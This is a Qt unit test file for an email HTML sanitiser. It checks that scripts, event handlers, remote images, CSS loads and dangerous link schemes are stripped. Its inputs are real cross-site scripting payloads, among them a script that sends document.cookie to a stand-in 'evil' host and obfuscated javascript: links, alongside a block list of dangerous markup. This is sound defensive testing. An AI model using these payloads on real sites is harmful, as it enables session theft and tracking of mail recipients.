// SPDX-License-Identifier: GPL-3.0-or-later
// The email HTML sanitiser: what a hostile or careless sender writes comes out inert —
// no script, no handler, nothing that loads from anywhere — while the formatting an agent
// needs to read the mail survives.
#include "server/html_sanitiser.h"
#include "tests/support/http_post.h"

#include <QTest>

using threadline::server::sanitiseEmailHtml;

namespace {
// Nothing in sanitised HTML may start a load or run code, whatever the case or spacing.
void verifyInert(const QString &html)
{
    const QString lower = html.toLower();
    for (const char *bad : {"<script", "<style", "<iframe", "<object", "<embed", "<form",
                            "<img", "<link", "<meta", "<base", "<svg", "javascript:",
                            "vbscript:", "data:", "url(", "expression(", "src=", "style=",
                            "onerror", "onclick", "onload", "onmouseover", "http://evil",
                            "cid:", "background="})
        QVERIFY2(!lower.contains(QLatin1String(bad)), qPrintable(QLatin1String(bad) + QStringLiteral(" in ") + html));
}
} // namespace

class TestHtmlSanitiser : public QObject {
    Q_OBJECT
private Q_SLOTS:
    void formattingAnAgentNeedsSurvives()
    {
        const QString out = sanitiseEmailHtml(QStringLiteral(
            "<html><body><h2>Your order</h2><p dir=\"rtl\">سلام <b>مریم</b> <i>جان</i></p>"
            "<ul><li>one</li><li>two</li></ul><blockquote>old text</blockquote>"
            "<table><tr><td colspan=\"2\">cell</td></tr></table></body></html>"));
        QCOMPARE(out, QStringLiteral(
                          "<h2>Your order</h2><p dir=\"rtl\">سلام <b>مریم</b> <i>جان</i></p>"
                          "<ul><li>one</li><li>two</li></ul><blockquote>old text</blockquote>"
                          "<table><tr><td colspan=\"2\">cell</td></tr></table>"));
    }

    void scriptsAndTheirTextAreGone()
    {
        const QString out = sanitiseEmailHtml(QStringLiteral(
            "<p>Hi</p><script>document.location='http://evil/'+document.cookie</script>"
            "<SCRIPT src=http://evil/x.js></SCRIPT><noscript>no</noscript><p>there</p>"));
        QCOMPARE(out, QStringLiteral("<p>Hi</p><p>there</p>"));
    }

    void eventHandlersAndStylesAreDropped()
    {
        const QString out = sanitiseEmailHtml(QStringLiteral(
            "<p onclick=\"steal()\" OnMouseOver='x()' style=\"color:red\" class=\"c\">text</p>"
            "<body onload=\"go()\"><div onerror=a()>more</div>"));
        verifyInert(out);
        QVERIFY(out.contains(QStringLiteral("<p>text</p>")));
        QVERIFY(out.contains(QStringLiteral("more")));
    }

    void remoteImagesLeaveOnlyTheirAltText()
    {
        const QString out = sanitiseEmailHtml(QStringLiteral(
            "<p>Logo: <img src=\"http://evil/track.gif?u=1\" alt=\"Shop logo\" width=1></p>"
            "<img src='https://evil/pixel.png'><img src=\"cid:part1@x\" alt=\"inline\">"
            "<img src=\"data:image/png;base64,AAAA\">"));
        verifyInert(out);
        QCOMPARE(out, QStringLiteral("<p>Logo: [Shop logo]</p>[inline]"));
    }

    void cssCannotReachOut()
    {
        const QString out = sanitiseEmailHtml(QStringLiteral(
            "<style>@import url(http://evil/a.css); body{background:url(http://evil/b.png)}</style>"
            "<div style=\"background-image:url('http://evil/c.png')\">a</div>"
            "<table background=\"http://evil/d.png\"><tr><td>b</td></tr></table>"
            "<font color=\"red\" size=\"3\">c</font><font color=\"url(http://evil/e)\">d</font>"
            "<link rel=stylesheet href=http://evil/f.css>"));
        verifyInert(out);
        QVERIFY(out.contains(QStringLiteral("<font color=\"red\" size=\"3\">c</font>")));
        QVERIFY(out.contains(QStringLiteral("<font>d</font>")));
    }

    void linksKeepOnlyWebAndMailTargets()
    {
        const QString out = sanitiseEmailHtml(QStringLiteral(
            "<a href=\"https://shop.example.ir/o?id=1&amp;x=2\">shop</a>"
            "<a href=\"mailto:help@example.ir\">mail</a>"
            "<a href=\"javascript:alert(1)\">js</a><a href=\" JaVaScRiPt:alert(1)\">js2</a>"
            "<a href=\"java&#x09;script:alert(1)\">js3</a><a href=\"vbscript:x\">vb</a>"
            "<a href=\"data:text/html;base64,PHNjcmlwdD4=\">data</a>"
            "<a href=\"file:///etc/passwd\">file</a><a href=\"//evil/x\">relative</a>"));
        verifyInert(out);
        QVERIFY2(out.contains(QStringLiteral("<a href=\"https://shop.example.ir/o?id=1&amp;x=2\">shop</a>")),
                 qPrintable(out));
        QVERIFY(out.contains(QStringLiteral("<a href=\"mailto:help@example.ir\">mail</a>")));
        for (const char *text : {"js", "js2", "js3", "vb", "data", "file", "relative"})
            QVERIFY2(out.contains(QStringLiteral("<a>%1</a>").arg(QLatin1String(text))), text);
    }

    void activeContentAndFormsAreGoneTheirTextAtMostStays()
    {
        const QString out = sanitiseEmailHtml(QStringLiteral(
            "<iframe src=\"http://evil/\">inner</iframe><object data=\"http://evil/o\">o</object>"
            "<embed src=\"http://evil/e\"><form action=\"http://evil/f\"><input name=p>"
            "<button>Pay</button></form><svg onload=alert(1)><a href=\"javascript:x\">s</a></svg>"
            "<math><mi xlink:href=\"javascript:x\">m</mi></math><base href=\"http://evil/\">"
            "<meta http-equiv=\"refresh\" content=\"0;url=http://evil/\"><p>kept</p>"));
        verifyInert(out);
        // An unclosed <embed> (which libxml2 does not know as void) loses nothing after it.
        QVERIFY2(out.endsWith(QStringLiteral("<p>kept</p>")), qPrintable(out));
        QVERIFY(!out.contains(QStringLiteral("<a")));
        QVERIFY(!out.contains(QStringLiteral("<input")));
        QVERIFY(!out.contains(QStringLiteral("<button")));
    }

    void brokenAndNestedMarkupComesOutWellFormed()
    {
        const QString out = sanitiseEmailHtml(QStringLiteral(
            "<p><b><i>unclosed <div><<script>alert(1)//<</script>"
            "<img src=x onerror=alert(1)//><a href=\"https://ok.example\"<b>x</a>"
            "&lt;script&gt;<!-- <script>alert(2)</script> --><![CDATA[<script>]]>"));
        verifyInert(out);
        QVERIFY(!out.contains(QStringLiteral("<!--")));
        // Escaped text stays escaped: it is shown, never parsed again.
        QVERIFY2(out.contains(QStringLiteral("&lt;script&gt;")), qPrintable(out));
        // Every opened kept tag is closed, so nothing leaks into what follows it.
        QCOMPARE(out.count(QStringLiteral("<b>")) + out.count(QStringLiteral("<b ")),
                 out.count(QStringLiteral("</b>")));
    }

    void deepNestingDoesNotExhaustTheStack()
    {
        const QString deep = QStringLiteral("<div>").repeated(20000) + QStringLiteral("x") +
                             QStringLiteral("<script>alert(1)</script>");
        verifyInert(sanitiseEmailHtml(deep));
    }

    void realRepliesFromMailClientsStayReadable()
    {
        for (const char *client : {"gmail", "hotmail", "mail_ru", "ms_outlook_2003",
                                   "ms_outlook_2007", "ms_outlook_2010", "thunderbird",
                                   "windows_mail", "yandex_ru"}) {
            const QByteArray html = threadline::testing::testData(
                QStringLiteral("email/quoted-replies/html_replies/%1.html")
                    .arg(QLatin1String(client)));
            QVERIFY2(!html.isEmpty(), client);
            const QString out = sanitiseEmailHtml(QString::fromUtf8(html));
            verifyInert(out);
            QVERIFY2(!out.trimmed().isEmpty(), client);
        }
    }

    void emptyInEmptyOut()
    {
        QCOMPARE(sanitiseEmailHtml(QString()), QString());
        QCOMPARE(sanitiseEmailHtml(QStringLiteral("  \n ")), QString());
        // Text outside any element is wrapped in a paragraph by the parser, and escaped.
        QCOMPARE(sanitiseEmailHtml(QStringLiteral("plain & simple")),
                 QStringLiteral("<p>plain &amp; simple</p>"));
    }
};

QTEST_GUILESS_MAIN(TestHtmlSanitiser)
#include "tst_html_sanitiser.moc"
